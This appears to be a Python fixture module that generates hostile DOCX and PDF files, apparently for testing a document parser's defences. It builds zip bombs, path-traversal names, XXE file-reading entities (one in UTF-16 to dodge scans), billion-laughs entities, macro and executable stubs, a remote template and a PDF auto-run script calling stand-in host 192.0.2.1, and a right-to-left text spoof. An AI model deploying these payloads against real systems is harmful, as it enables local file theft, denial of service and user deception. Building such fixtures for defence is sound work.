"""Hostile documents, made here and never kept: each function gives the bytes of one. Nothing here is a test."""

from __future__ import annotations

import io
import itertools
import random
import zipfile
from collections.abc import Mapping

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORDS = "1. Phòng Nội vụ rà soát thủ tục hành chính trước ngày 15/3/2024."

PDF_WORDS = "1. Phong Noi vu ra soat thu tuc hanh chinh, gui bao cao truoc ngay 15/3/2024 de tong hop."


def document(*paragraphs: str, head: str = "") -> str:
    """`word/document.xml` of these paragraphs (XML as it is); `head` stands before the root."""
    body = "".join(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>" for words in paragraphs)
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'


def docx(main: str | bytes, others: Mapping[str, str | bytes] | None = None, links: str = "") -> bytes:
    """A Word file of this main part and these other members."""
    made = io.BytesIO()
    target = f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(
            "_rels/.rels", f'<Relationships xmlns="{PACKAGE}/relationships">{target}{links}</Relationships>'
        )
        packed.writestr("word/document.xml", main)
        for name, content in (others or {}).items():
            packed.writestr(name, content)
    return made.getvalue()


def zip_bomb() -> bytes:
    """150 MB of blanks in one member."""
    return docx(document(WORDS).replace("<w:body>", "<w:body>" + " " * 150_000_000))


def many_bombs() -> bytes:
    """Members that are each harmless, and 216 MB together."""
    noise = random.Random(1).randbytes(20_000) * 90  # 2 MB that shrink to a ninetieth: under what one member may
    return docx(document(WORDS), {f"word/media/{n}.bin": noise for n in range(120)})


def many_entries() -> bytes:
    """More members than any document has."""
    return docx(document(WORDS), {f"word/media/{n}.png": b"x" for n in range(1200)})


def path_tricks() -> bytes:
    """Names that would leave the folder if somebody unpacked them."""
    names = ["../../tron.txt", "/tmp/tron.txt", "C:\\tron.txt", "..\\tron.txt", "CON", "word/../../tron.txt"]
    return docx(document(WORDS), dict.fromkeys(names, b"x"))


def external_entity(secret_file: str) -> bytes:
    """An entity that stands for a file of the computer."""
    head = f'<!DOCTYPE x [<!ENTITY loot SYSTEM "file://{secret_file}">]>'
    return docx(document(WORDS, "&loot;", head=head))


def utf16_entity(secret_file: str) -> bytes:
    """The same in UTF-16, where a search for the ASCII letters of DOCTYPE finds nothing."""
    head = f'<!DOCTYPE x [<!ENTITY loot SYSTEM "file://{secret_file}">]>'
    words = document(WORDS, "&loot;", head=head).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return docx(words.encode("utf-16"))


def billion_laughs() -> bytes:
    """Entities of entities."""
    names = [f"e{n}" for n in range(12)]
    pairs = itertools.pairwise(names)
    inner = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairs)
    head = f'<!DOCTYPE x [<!ENTITY e0 "{"ha" * 50}">{inner}]>'
    return docx(document(WORDS, "&e11;", head=head))


def deep_tree() -> bytes:
    """Tables in tables in tables, 3,000 deep."""
    opening = "<w:tbl><w:tr><w:tc>" * 3000
    closing = "</w:tc></w:tr></w:tbl>" * 3000
    return docx(document(WORDS).replace("</w:body>", f"{opening}<w:p/>{closing}</w:body>"))


def with_macros() -> bytes:
    """A .docm under the name of a .docx."""
    return docx(document(WORDS), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name Shell(calc)"})


def with_embedded_program() -> bytes:
    """An OLE object with a program inside."""
    return docx(document(WORDS), {"word/embeddings/oleObject1.bin": b"MZ\x90\x00" + bytes(500)})


def with_remote_template() -> bytes:
    """A template that Word would fetch from another computer, and send the user's name to it."""
    link = f'<Relationship Id="r9" Type="{RELATIONS}/attachedTemplate" Target="http://192.0.2.1/x.dotm"'
    return docx(document(WORDS), links=f'{link} TargetMode="External"/>')


def with_linked_page() -> bytes:
    """A link to a page of the web, as honest documents have them."""
    link = f'<Relationship Id="r9" Type="{RELATIONS}/hyperlink" Target="https://laocai.gov.vn" TargetMode="External"/>'
    return docx(document(WORDS), links=link)


def turned_words() -> bytes:
    """A deadline that reads as another on the screen."""
    return docx(document(WORDS.replace("15/3", "\u202e3/51\u202c")))


def pdf(words: str, catalogue: str = "", more: str = "") -> bytes:
    """A PDF of one page with these ASCII words; `catalogue` and `more` are put in as they are."""
    stream = f"BT /F1 12 Tf 72 700 Td ({words}) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        *filter(None, [more]),
    ]
    made, places = "%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{content}\nendobj\n"
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n"
    return f"{made}xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{end}".encode("latin-1")


def pdf_with_script() -> bytes:
    """Script and a program that are to run when the file is opened."""
    script = "<< /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) /Next << /S /Launch /F (calc.exe) >> >>"
    return pdf(PDF_WORDS, f"/OpenAction {script}")


def pdf_with_file() -> bytes:
    """A program as an attachment."""
    more = "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
    names = "/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>] >> >>"
    return pdf(PDF_WORDS, names, more)


def pdf_of_loops() -> bytes:
    """Pages that are their own children."""
    return pdf("x").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R 2 0 R]")


def pdf_of_many_pages() -> bytes:
    """A page tree that says it holds two thousand million pages."""
    return pdf(PDF_WORDS).replace(b"/Count 1 ", b"/Count 2000000000 ")
